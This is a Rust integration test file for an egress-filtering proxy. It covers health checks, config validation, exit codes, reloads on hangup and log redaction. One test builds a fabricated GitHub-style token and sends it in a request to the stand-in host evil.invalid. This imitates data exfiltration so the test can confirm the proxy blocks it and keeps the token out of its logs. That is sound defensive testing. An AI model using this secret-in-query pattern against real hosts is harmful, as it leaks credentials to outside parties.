//! The process: commands, exit codes, configuration by pipe, reload, signals, and what the log may show.

use std::io::Write;
use std::process::{Command, Output, Stdio};

use serde_json::Value;

use crate::engine::{Engine, Gate, Setup, Upstream, client_hello, eventually, exchange};
use crate::engines;

fn run(engine: &Engine, arguments: &[&str], input: &str) -> Output {
    let mut child = Command::new(engine.program())
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let _ = child.stdin.take().unwrap().write_all(input.as_bytes());
    child.wait_with_output().unwrap()
}

fn yaml() -> String {
    let address = "127.0.0.1:1".parse().unwrap();
    Setup::default().yaml(address, address)
}

#[test]
fn health_is_the_documented_document() {
    for engine in engines() {
        let gate = Gate::start(&engine, &Setup::default());
        let answer = exchange(gate.main, b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        assert_eq!(answer.status, 200, "{engine:?} {answer:?}");
        let document: Value = serde_json::from_str(&answer.body).unwrap();
        assert_eq!(document["status"], "healthy");
        assert_eq!(document["mode"], "strict");
        assert_eq!(document["forward_proxy_enabled"], true);
        assert_eq!(document["kill_switch_active"], false);
        assert!(document["dlp_patterns"].as_u64().unwrap() > 40, "{engine:?}");
        assert!(document["uptime_seconds"].is_number() && document["version"].is_string());
        let probe = run(&engine, &["healthcheck", "--addr", &gate.main.to_string()], "");
        assert!(probe.status.success(), "{engine:?} {probe:?}");
    }
}

#[test]
fn healthcheck_fails_where_nothing_listens() {
    for engine in engines() {
        let probe = run(&engine, &["healthcheck", "--addr", "127.0.0.1:1"], "");
        assert_eq!(probe.status.code(), Some(1), "{engine:?}");
    }
}

#[test]
fn check_tells_valid_from_invalid() {
    for engine in engines() {
        let directory = tempfile::tempdir().unwrap();
        let check = |text: &str, more: &[&str]| {
            let path = directory.path().join("gate.yaml");
            std::fs::write(&path, text).unwrap();
            run(&engine, &[&["check", "-c", path.to_str().unwrap()], more].concat(), "")
        };
        let ok = check(&yaml(), &[]);
        let told = [ok.stdout.clone(), ok.stderr.clone()].concat();
        assert!(ok.status.success() && String::from_utf8_lossy(&told).contains("OK"), "{engine:?} {ok:?}");
        let slip = check(&format!("{}apl_allowlist: []\n", yaml()), &[]);
        let told = [slip.stdout.clone(), slip.stderr.clone()].concat();
        assert_eq!(slip.status.code(), Some(1), "{engine:?} {slip:?}");
        assert!(String::from_utf8_lossy(&told).contains("apl_allowlist"), "{engine:?} {slip:?}");
        assert_eq!(check("mode: strict\n", &[]).status.code(), Some(1), "{engine:?}");
        assert!(check(&yaml(), &["--url", "https://localhost/"]).status.success(), "{engine:?}");
        assert_eq!(check(&yaml(), &["--url", "https://evil.invalid/"]).status.code(), Some(1), "{engine:?}");
    }
}

#[test]
fn bad_usage_is_exit_2() {
    for arguments in [&[][..], &["walk"], &["run"], &["run", "-c"], &["run", "-c", "x", "--what"]] {
        let output = run(&Engine::Builtin, arguments, "");
        assert_eq!(output.status.code(), Some(2), "{arguments:?}");
        assert!(String::from_utf8_lossy(&output.stderr).contains("usage"), "{arguments:?}");
    }
    let version = run(&Engine::Builtin, &["version"], "");
    assert!(String::from_utf8_lossy(&version.stdout).contains(env!("CARGO_PKG_VERSION")));
}

#[test]
fn a_start_that_fails_is_exit_1_with_a_message() {
    for engine in engines() {
        let missing = run(&engine, &["run", "-c", "/nonexistent/gate.yaml"], "");
        assert_eq!(missing.status.code(), Some(1), "{engine:?} {missing:?}");
        assert!(!missing.stderr.is_empty(), "{engine:?}");
    }
    let loose = run(&Engine::Builtin, &["run", "-c", "-"], &yaml().replace("mode: strict", "mode: audit"));
    assert_eq!(loose.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&loose.stderr).contains("strict"), "{loose:?}");
    let empty = run(&Engine::Builtin, &["run", "-c", "-"], "");
    assert!(
        empty.status.code() == Some(1) && String::from_utf8_lossy(&empty.stderr).contains("empty"),
        "{empty:?}"
    );
}

#[test]
fn the_configuration_comes_through_a_pipe() {
    for engine in engines() {
        let arguments: &[&str] = if engine.is_builtin() { &["/dev/stdin", "-"] } else { &["/dev/stdin"] };
        for argument in arguments {
            let gate = Gate::start_from_stdin(&engine, &Setup::default(), argument);
            assert!(gate.judge_url("https://localhost/").is_empty(), "{engine:?}");
            assert_eq!(gate.judge_url("https://evil.invalid/"), ["URL-allowlist"], "{engine:?}");
            assert!(std::fs::read_dir(gate.directory.path()).unwrap().next().is_none());
        }
    }
}

#[test]
fn hangup_reloads_and_a_broken_file_changes_nothing() {
    for engine in engines() {
        // No look-up in the verdict: the added host is a name that no resolver should be asked for.
        let before = Setup { extra: "internal: []\n".to_owned(), ..Setup::default() };
        let gate = Gate::start(&engine, &before);
        let path = gate.directory.path().join("gate.yaml");
        let write = |text: &str| {
            // By rename, so that no reader ever sees half a file.
            let next = gate.directory.path().join("next");
            std::fs::write(&next, text).unwrap();
            std::fs::rename(&next, &path).unwrap();
            gate.signal("HUP");
        };
        write("mode: strict\napi_allowlist: [\n");
        eventually("the rejection is logged", &gate, || {
            let log = gate.log();
            log.contains("rejected") || log.contains("reload failed")
        });
        assert!(gate.judge_url("https://localhost/").is_empty(), "{engine:?}");

        let more = Setup { allow: vec!["localhost", "other.invalid"], ..before };
        let text = more.yaml(gate.main, gate.scan);
        write(&text);
        let hash = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(text.as_bytes()));
        eventually("the reload is logged", &gate, || {
            gate.log().lines().filter_map(|line| serde_json::from_str::<Value>(line).ok()).any(|line| {
                line["event"] == "config_reload"
                    && line["status"] == "success"
                    && line["config_hash"] == hash.as_str()
            })
        });
        assert!(gate.judge_url("https://other.invalid/").is_empty(), "{engine:?}");
    }
}

#[test]
fn a_reload_that_drops_a_host_ends_its_tunnels() {
    use std::io::Read;
    for engine in engines() {
        if !engine.is_builtin() {
            continue; // pipelock lets open tunnels run on.
        }
        let upstream = Upstream::start(b"");
        let gate = Gate::start(&engine, &Setup { idle: 60, ..Setup::default() });
        let (mut tunnel, _) = gate.connect(&format!("localhost:{}", upstream.port));
        let hello = client_hello(Some("localhost"));
        tunnel.write_all(&hello).unwrap();
        tunnel.read_exact(&mut vec![0; hello.len()]).unwrap();
        let none = Setup { allow: vec!["deny-all.invalid"], ..Setup::default() };
        std::fs::write(gate.directory.path().join("gate.yaml"), none.yaml(gate.main, gate.scan)).unwrap();
        gate.signal("HUP");
        assert_eq!(tunnel.read(&mut [0; 16]).unwrap_or(0), 0);
    }
}

#[test]
fn terminate_is_a_clean_end() {
    for engine in engines() {
        let mut gate = Gate::start(&engine, &Setup::default());
        gate.signal("TERM");
        let status = gate.child.wait().unwrap();
        assert_eq!(status.code(), Some(0), "{engine:?}");
    }
}

#[test]
fn the_log_shows_no_token_and_no_secret() {
    let gate = Gate::start(&Engine::Builtin, &Setup::default());
    let secret = ["gh", "p_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o50smkjE"].concat();
    gate.judge_text(&secret);
    gate.judge_url(&format!("https://localhost/{secret}?q={secret}"));
    let absolute =
        format!("GET http://evil.invalid/?q={secret} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    exchange(gate.main, absolute.as_bytes());
    gate.connect("evil.invalid:443");
    eventually("the refusals are logged", &gate, || gate.log().matches("\"blocked\"").count() >= 2);
    let log = gate.log();
    assert!(!log.contains("a1B2c3") && !log.contains(crate::engine::TOKEN), "{log}");
    for line in log.lines() {
        let line: Value = serde_json::from_str(line).unwrap();
        assert!(line["time"].is_string() && line["event"].is_string() && line["component"] == "bottle-gate");
    }
}
